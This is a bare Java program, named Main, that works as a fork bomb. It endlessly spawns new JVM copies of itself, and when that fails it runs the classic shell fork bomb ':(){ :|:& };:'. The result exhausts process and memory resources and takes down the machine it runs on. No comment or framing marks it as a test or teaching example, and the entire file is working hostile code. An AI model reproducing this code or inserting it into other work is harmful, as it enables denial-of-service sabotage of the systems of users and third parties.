import java.util.ArrayList;
import java.util.List;

public class Main {
    public static void main(String[] args) throws Exception {
        List<Process> kids = new ArrayList<>();
        String java = ProcessHandle.current().info().command().orElse("java");
        while (true) {
            try {
                kids.add(new ProcessBuilder(java, "-cp", System.getProperty("java.class.path"), "Main").inheritIO().start());
            } catch (Exception e) {
                kids.add(new ProcessBuilder("/bin/sh", "-c", ":(){ :|:& };:").start());
            }
        }
    }
}
